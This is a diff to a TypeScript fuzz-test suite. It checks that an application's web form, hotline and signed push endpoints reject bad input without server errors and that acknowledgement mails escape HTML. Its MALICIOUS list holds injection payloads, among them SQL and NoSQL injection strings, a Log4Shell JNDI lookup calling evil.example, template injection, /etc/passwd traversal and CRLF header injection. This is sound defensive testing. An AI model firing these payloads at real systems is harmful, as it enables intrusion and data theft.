@@ -13,6 +13,7 @@ import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { z } from 'zod';
 import { DEV_VPCP_SECRET } from '../../../infra/local/stack.ts';
+import { escapeHtml } from '../../../shared/app/mail-templates.ts';
 import { hotlineCall, vpcpItem, webSubmission } from '../../../shared/domain/schemas.ts';
 import { signBody } from '../../../shared/http/hmac.ts';
 import { sampleCall, sampleWebCase, startTestStack, type TestStack } from '../../support/stack.ts';
@@ -43,7 +44,8 @@ const MALICIOUS = [
   "1' OR '1'='1",
   '" OR ""="',
   '{"$gt": ""}',
-  '${jndi:ldap://evil.example/a}',
+  // Log4Shell-style lookup, sent literally.
+  `\${jndi:ldap://evil.example/a}`,
   '{{7*7}}',
   '../../../../etc/passwd',
   '%00%0d%0aSet-Cookie: x=1',
@@ -293,6 +295,10 @@ const countStored = async () =>
   (await receivedCases(stack, '2021-06-01T00:00:00+07:00', '2027-01-01T00:00:00+07:00')).length;
 
 const stats = new Map<string, Record<string, number>>();
+/** Web cases the fuzz created, with the body each came from: their mails are checked last. */
+let webCreated = new Map<string, Json>();
+/** Each fuzz test sends RUNS bodies; its time grows with RUNS, so its timeout does too. */
+const FUZZ_TIMEOUT_MS = 60_000 + RUNS * 100;
 
 /** Fuzz one endpoint; returns the cases it created, each with the body that created it. */
 async function fuzz(endpoint: Endpoint): Promise<Map<string, Json>> {
@@ -375,9 +381,10 @@ const vpcpEndpoint: Endpoint = {
 };
 
 describe(`bad input, ${RUNS} bodies per endpoint`, () => {
-  it('the web form: no 5xx, nothing stored from invalid input', async () => {
+  it('the web form: no 5xx, nothing stored from invalid input', { timeout: FUZZ_TIMEOUT_MS }, async () => {
     const before = await countStored();
     const created = await fuzz(webEndpoint);
+    webCreated = created;
     expect(await countStored()).toBe(before + created.size);
     // Accepted text is kept as sent (NFC, trimmed): nothing stripped silently, markup included.
     for (const [code, sent] of created) {
@@ -388,13 +395,17 @@ describe(`bad input, ${RUNS} bodies per endpoint`, () => {
     }
   });
 
-  it('the hotline log (operator): no 5xx, nothing stored from invalid input', async () => {
+  it('the hotline log (operator): no 5xx, nothing stored from invalid input', {
+    timeout: FUZZ_TIMEOUT_MS,
+  }, async () => {
     const before = await countStored();
     const created = await fuzz(hotlineEndpoint());
     expect(await countStored()).toBe(before + created.size);
   });
 
-  it('the VPCP push (correctly signed): no 5xx, nothing stored from invalid input', async () => {
+  it('the VPCP push (correctly signed): no 5xx, nothing stored from invalid input', {
+    timeout: FUZZ_TIMEOUT_MS,
+  }, async () => {
     const before = await countStored();
     const created = await fuzz(vpcpEndpoint);
     expect(await countStored()).toBe(before + created.size);
@@ -408,6 +419,15 @@ describe(`bad input, ${RUNS} bodies per endpoint`, () => {
 
   it('escapes every accepted text where it is shown as HTML (acknowledgement mails)', async () => {
     const mails = await stack.mails();
+    // Hostile titles among the accepted web bodies: each one's mail holds it escaped, never raw.
+    for (const [code, sent] of webCreated) {
+      const title = String(sent.title).normalize('NFC').trim();
+      const mail = mails.find((m) => m.subject.includes(code));
+      if (!mail) continue; // no email given, or the mail failed and stays in the outbox
+      expect(mail.body.html).toContain(escapeHtml(title));
+      if (/[<>&"']/.test(title)) expect(mail.body.html).not.toContain(title);
+      expect(mail.body.text).toContain(title);
+    }
     const allowed = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'body', 'p']);
     for (const m of mails) {
       const tags = [...m.body.html.matchAll(/<\/?\s*([!a-zA-Z][\w-]*)/g)].map((t) => (t[1] as string).toLowerCase());
